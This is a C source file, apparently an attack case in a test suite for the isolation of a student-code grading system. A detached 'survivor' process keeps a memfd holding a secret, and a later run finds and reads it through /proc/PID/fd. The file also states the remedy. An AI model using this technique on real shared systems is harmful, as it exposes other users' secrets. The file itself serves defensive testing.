// SPDX-License-Identifier: MIT
/*
 * survivor-memfd.c - a file that is only in a process.
 *
 * Goal: another student's work.
 * Means: the first run leaves a process behind that holds a memfd. The file is in no folder, so no
 * cleaner finds it; but /proc/PID/fd shows it to every process of the same user, and opens it.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

/* Print the file behind a /proc/PID/fd/N whose link says /memfd:NAME. */
static bool print(const char *path, const char *name)
{
	char link[256] = "", text[256];
	ssize_t n;
	int fd;

	if (readlink(path, link, sizeof(link) - 1) < 0 || strncmp(link, "/memfd:", 7) ||
	    strncmp(link + 7, name, strlen(name)))
		return false;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	n = read(fd, text, sizeof(text));
	close(fd);
	if (n <= 0)
		return false;
	loot(text, (size_t)n);
	return true;
}

static enum claim run(const struct brief *b)
{
	bool found = false;
	glob_t all;

	attempting(b);
	if (!glob("/proc/[0-9]*/fd/*", GLOB_NOSORT, NULL, &all))
		for (size_t i = 0; i < all.gl_pathc && !found; i++)
			found = print(all.gl_pathv[i], b->name);
	errno = ENOENT;
	return found ? CLAIM_DONE : denied("open");
}

/* Leave the session and every pipe, so that nobody waits for us, and hold on to the file. */
static _Noreturn void survive(int memfd)
{
	setsid();
	dup2(memfd, STDIN_FILENO);
	close_range(STDIN_FILENO + 1, ~0U, 0);
	sleep(5);
	_exit(0);
}

/* A plain file as well: a refused survivor is the defence at work, not a student who failed. */
static enum claim victim(const struct brief *b)
{
	int memfd = memfd_create(b->name, 0), plain;
	char path[128];

	if (memfd >= 0 && write(memfd, b->secret, strlen(b->secret)) > 0 && !fork())
		survive(memfd);
	snprintf(path, sizeof(path), "/tmp/%s", b->name);
	plain = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (plain < 0) /* then the working directory is the student's own folder */
		plain = open(b->name, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (plain < 0 || write(plain, b->secret, strlen(b->secret)) < 0)
		return failed(b->name);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the next student reads what the last one's process still holds",
	.means = "a survivor's memfd, opened through /proc/PID/fd",
	.oracle = "secret:victim",
	.scene = SCENE_AFTER_VICTIM,
	.id = "TMPS-14",
	.attack_id = "T1005, CWE-459, CWE-403",
	.remedy = "end every process of a run, whatever its session",
	.run = run,
	.victim = victim,
};
